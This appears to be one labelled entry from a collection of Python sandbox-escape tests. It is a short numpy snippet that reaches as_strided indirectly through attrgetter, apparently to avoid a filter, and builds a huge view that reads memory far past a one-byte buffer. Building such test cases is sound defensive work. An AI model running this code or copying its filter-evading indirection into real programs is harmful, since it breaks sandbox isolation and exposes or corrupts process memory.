# attempts: np.lib.stride_tricks.as_strided over 2**40 bytes: reads far past the buffer (no ctypes needed)
# effect: other
asf = np.ma.core.operator.attrgetter('lib.stride_tricks.as_strided')(np)
v = asf(np.zeros(1, dtype=np.uint8), shape=(2**40,), strides=(1,))
print(int(v[::4096].sum()))
